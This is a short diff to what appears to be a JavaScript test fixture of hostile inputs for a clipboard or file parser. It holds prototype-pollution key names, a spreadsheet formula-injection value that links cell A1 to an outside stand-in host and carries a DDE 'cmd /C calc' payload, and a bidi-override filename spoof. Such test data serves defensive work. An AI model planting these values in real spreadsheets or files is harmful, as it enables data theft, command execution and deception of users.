@@ -25,7 +25,7 @@ export const TEXTS = {
   "names that objects have": "__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__",
   "a comment that never ends": `<!-- ${"-".repeat(50)}`,
   "a formula": `=HYPERLINK("${OUTSIDE}/?x="&A1,"press") =cmd|' /C calc'!A0`,
-  "directions turned round": "\u202etxt.exe\u202c \u2066\u2067left\u2069 \u200fright",
+  "directions turned round": "It says \u202etxt.exe\u202c and \u2066left\u2069 and \u200fright",
 };
 
 /** HTML of a clipboard or a file. In each stand, besides, two paragraphs that must be read. */
